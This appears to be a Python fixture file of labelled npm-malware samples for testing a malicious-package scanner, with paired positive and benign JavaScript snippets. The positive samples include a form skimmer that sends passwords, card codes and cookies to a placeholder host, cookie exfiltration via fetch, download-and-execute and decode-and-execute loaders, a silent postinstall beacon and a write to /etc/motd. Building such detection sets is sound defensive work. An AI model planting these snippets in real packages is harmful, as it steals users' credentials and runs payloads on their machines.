            # a wallet library that signs with the key and sends only the signature
            "lib/index.js": (
                "import nacl from 'tweetnacl';\n"
                "export class Wallet {\n"
                "  constructor(secretKey) { this._secretKey = secretKey; }\n"
                "  send(tx) {\n"
                "    const sig = nacl.sign.detached(tx, this._secretKey);\n"
                "    return fetch('https://rpc.example.invalid/', {method: 'POST', body: JSON.stringify({tx, sig})});\n"
                "  }\n"
                "}\nexport const solana = Wallet;\n"
            ),
        },
    ],
)
_add(
    "malicious-obfuscation",
    positive=[
        {
            # obfuscator.io's rotated string array, module names taken from it (xmlrpc, noblox)
            "lib.js": (
                "const a0=a0_0x1d3b;(function(_0x345f,_0x4beb){const _0xece3=a0_0x1d3b,_0x5c02=_0x345f();"
                "while(!![]){try{const _0x5b0d=parseInt(_0xece3(0x20e))/0x1;if(_0x5b0d===_0x4beb)break;"
                "else _0x5c02['push'](_0x5c02['shift']());}catch(_0x2e86){_0x5c02['push'](_0x5c02['shift']());}}}"
                "(a0_0x2970,0x48b94));"
                + "".join(f"var _0x{n:04x}=a0(0x{n:x});" for n in range(0x1A0, 0x1B4))
                + "const _0xcp=require(a0(0x1a6));\n"
            ),
        },
        {
            # JS-Confuser's hex arithmetic around every string-table lookup (nvmfix)
            "config.js": (
                "const cp = require('child_process');\n"
                + "".join(f"function f{n}(a){{return t[a<0x4a?a<0x4a?a-0x3e:a-0x14:a+0x{n:x}]}}\n" for n in range(10))
            ),
        },
        {
            # a URL spelled in \x escapes next to network code (device-mqtt)
            "api.js": (
                'var _u = ["\\x68\\x74\\x74\\x70\\x73\\x3A\\x2F\\x2F\\x68\\x2E\\x65\\x78\\x61\\x6D\\x70\\x6C\\x65"];\n'
                "fetch(_u[0] + document.cookie);\n"
            ),
        },
    ],
    benign=[
        {
            # an ordinary queue shifts and pushes; no obfuscator names
            "queue.js": "const q = [1, 2, 3];\nfunction rotate(a) { a.push(a.shift()); return a; }\nrotate(q);\n",
        },
        {
            # escapes spelling binary data, not text
            "table.js": 'module.exports = "\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\x09";\n',
        },
    ],
)
_add(
    "malicious-silent-process",
    positive=[
        {"package.json": _HOOK.format(hook="postinstall", command="nohup node beacon.js > /dev/null 2>&1 &")},
    ],
    benign=[
        {"package.json": _HOOK.format(hook="postinstall", command="node install.js || true")},
    ],
)

# -- what real popular packages do that looks like the above (the benign half of bench/vet_vs_guarddog.py) --

SAMPLES["malicious-download-exec"]["benign"].extend(
    [
        {
            # a binary installer that checks the download against a pinned hash before writing it (esbuild)
            "package.json": _HOOK.format(hook="postinstall", command="node install.js"),
            "install.js": (
                "const https = require('https');\nconst fs = require('fs');\nconst crypto = require('crypto');\n"
                "function check(bytes) {\n"
                "  const hash = crypto.createHash('sha256').update(bytes).digest('hex');\n"
                "  if (hash !== EXPECTED) throw new Error('hash mismatch');\n"
                "}\n"
                "async function download(url, binPath) {\n"
                "  const bytes = await new Promise((ok) => https.get(url, (res) => ok(res)));\n"
                "  check(bytes);\n"
                "  fs.writeFileSync(binPath, bytes);\n"
                "  fs.chmodSync(binPath, 493);\n"
                "}\n"
                "download('https://registry.example.invalid/x.tgz', 'bin/x');\n"
            ),
        },
        {
            # a timer on a bound method of a socket object (ws)
            "lib/websocket.js": (
                "const net = require('net');\n"
                "const socket = net.connect(80, 'example.invalid');\n"
                "socket.on('data', (chunk) => {\n"
                "  const ws = chunk.owner;\n"
                "  ws.timer = setTimeout(ws.emitClose.bind(ws), 30000);\n"
                "});\n"
            ),
        },
    ]
)
SAMPLES["malicious-env-exfiltration"]["benign"].append(
    {
        # the environment handed to a child process, whose token then goes to it over loopback (next)
        "lib/worker.js": (
            "const { spawn } = require('child_process');\nconst { request } = require('http');\n"
            "const worker = spawn('./server', [], {env: {...process.env, TOKEN: 'x'}});\n"
            "const headers = {};\nheaders['x-token'] = worker.token;\n"
            "request({hostname: '127.0.0.1', port: 8080, headers}).end();\n"
        ),
    }
)
SAMPLES["malicious-credential-access"]["benign"].append(
    {
        # a bundled CLI: a crypto library in one place, a home-directory file walker far away (yarn)
        "lib/cli.js": (
            "const nacl = {};\nnacl.box = {keyPair: {fromSecretKey: (k) => ({secretKey: k})}};\n"
            + "// filler\n" * 800
            + "const fs = require('fs');\nconst os = require('os');\n"
            "function rcFiles() { return fs.readdirSync(os.homedir()).map((f) => fs.readFileSync(f, 'utf8')); }\n"
            "function report(x) { return fetch('https://registry.example.invalid/-/report', {body: x}); }\n"
            "module.exports = { rcFiles, report, nacl };\n"
        ),
    }
)

# -- second round, after the held-out half was revealed (bench/vet_real_malware.py --reveal-holdout) --------

_add(
    "malicious-download-exec",
    positive=[
        {
            # the helper fetches and writes, the caller runs the file (distube-fast)
            "postinstall.js": (
                "const http = require('http');\nconst fs = require('fs');\n"
                "const { execFileSync } = require('child_process');\n"
                "async function main() { await download('http://h.example.invalid/m.exe', 'm.exe'); "
                "execFileSync('m.exe'); }\n"
                "function download(url, dest) {\n"
                "  return new Promise((resolve) => {\n"
                "    const file = fs.createWriteStream(dest);\n"
                "    http.get(url, (response) => { response.pipe(file); file.on('finish', resolve); });\n"
                "  });\n"
                "}\n"
                "main();\n"
            ),
        },
    ],
    benign=[
        {
            # a helper that downloads a data file; nothing runs it
            "fetch-data.js": (
                "const https = require('https');\nconst fs = require('fs');\n"
                "function download(url, dest) {\n"
                "  return new Promise((ok) => https.get(url, (r) => r.pipe(fs.createWriteStream(dest)).on('close', ok)));\n"
                "}\n"
                "download('https://data.example.invalid/tz.json', 'tz.json').then(() => console.log('ok'));\n"
            ),
        },
    ],
)
_add(
    "malicious-decode-exec",
    positive=[
        {
            # a payload decoded twice, written next to the package and run with node (hlwgirl)
            "index.js": (
                "const { exec } = require('child_process');\nconst fs = require('fs');\nconst path = require('path');\n"
                "const hex = '593239756332397352533573623263';\n"
                "const b64 = Buffer.from(hex, 'hex').toString('utf-8');\n"
                "const script = Buffer.from(b64, 'base64').toString('utf-8');\n"
                "const target = path.join(__dirname, 'main.js');\n"
                "fs.writeFileSync(target, script);\n"
                "exec(`node ${target}`);\n"
            ),
        },
    ],
    benign=[
        {
            # an image decoded and written; the process started is unrelated to it and in another function
            "build.js": (
                "const fs = require('fs');\nconst { execSync } = require('child_process');\n"
                "function icon() { fs.writeFileSync('icon.png', Buffer.from('iVBORw0KGgo=', 'base64')); }\n"
                "function version() { return execSync('git describe').toString(); }\n"
                "module.exports = { icon, version };\n"
            ),
        },
    ],
)
_add(
    "malicious-destructive-write",
    positive=[{"package.json": _HOOK.format(hook="postinstall", command="echo pwned > /etc/motd")}],
    benign=[{"package.json": _HOOK.format(hook="postinstall", command="node build.js > build.log 2> /dev/null")}],
)
_add(
    "malicious-credential-access",
    positive=[
        {
            # a form skimmer in a library's bundle (device-mqtt, stream-combine)
            "build/index.js": (
                "var t = ['https://h.example.invalid/p?pl='];\n"
                "for (var a = 0; a < document.forms.length; a++) {\n"
                "  var s = document.forms[a].elements;\n"
                "  for (var u = 0; u < s.length; u++) {\n"
                "    if ('password' == s[u].type || 'cvc' == s[u].name.toLowerCase()) {\n"
                "      document.forms[a].addEventListener('submit', function () {\n"
                "        var n = '';\n"
                "        for (var o = 0; o < this.elements.length; o++) n += this.elements[o].value + ':';\n"
                "        this.action = t[0] + encodeURIComponent(btoa(n + '|' + document.cookie));\n"
                "      });\n"
                "    }\n"
                "  }\n"
                "}\n"
            ),
        },
    ],
    benign=[
        {
            # a payment form that validates its own card fields and posts to its own endpoint
            "card-form.js": (
                "export function bind(form) {\n"
                "  form.addEventListener('submit', (e) => {\n"
                "    const cvc = form.querySelector('[name=\"cvc\"]').value;\n"
                "    if (!/^\\d{3,4}$/.test(cvc)) e.preventDefault();\n"
                "  });\n"
                "}\n"
            ),
        },
    ],
)
SAMPLES["malicious-destructive-write"]["benign"].append(
    {
        # a browser installer the user runs on purpose adds an apt source (playwright's reinstall_msedge_*.sh)
        "bin/reinstall_msedge_stable_linux.sh": (
            "#!/usr/bin/env bash\nset -e\n"
            'sh -c \'echo "deb [arch=amd64] https://packages.example.invalid/edge stable main" '
            "> /etc/apt/sources.list.d/edge.list'\n"
        ),
    }
)
